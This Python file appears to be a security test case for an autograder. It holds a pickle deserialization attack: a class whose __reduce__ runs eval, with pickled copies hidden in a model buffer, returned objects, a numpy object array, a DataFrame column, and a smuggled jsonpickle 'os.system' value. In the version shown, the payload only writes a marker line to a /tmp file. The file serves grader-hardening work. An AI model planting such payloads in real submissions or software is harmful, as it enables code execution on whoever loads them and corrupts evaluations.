"""Answers with objects, object arrays and strings that are pickles which run code if anything on the way to the judge, or in copying, loads them.

family: pickle
start: solved
loses: q5 q6 q7 q8
"""

# %% first
import os as _os
import pickle as _pickle

_mine = _os.getpid()


class _Payload:
    def __reduce__(self):
        code = (
            f"__import__('os').getpid() != {_mine} and __import__('builtins').open("
            "'/tmp/autograder-attack-pickle_in_variables_and_evidence', 'a').write('loaded elsewhere' + chr(10))"
        )
        return (eval, (code,))

    __deepcopy__ = None


_bytes = _pickle.dumps(_Payload(), 0)

# %% train
def train_one_epoch(model, train_loader, criterion, optimizer):
    model.register_buffer("payload", torch.frombuffer(bytearray(_bytes), dtype=torch.uint8))
    return _Payload()

# %% evaluate
def evaluate(model, dataset):
    import numpy as np

    return np.array([_Payload()], dtype=object)

# %% sizes
HIDDEN_SIZES = [[_bytes.decode("latin1"), {"__reduce__": "x", "py/object": "os.system", "py/reduce": []}]]

# %% table
def comparison_table(results):
    table = pd.DataFrame(results).drop(columns="model")
    table["h1"] = [_Payload()] * len(table)
    return table
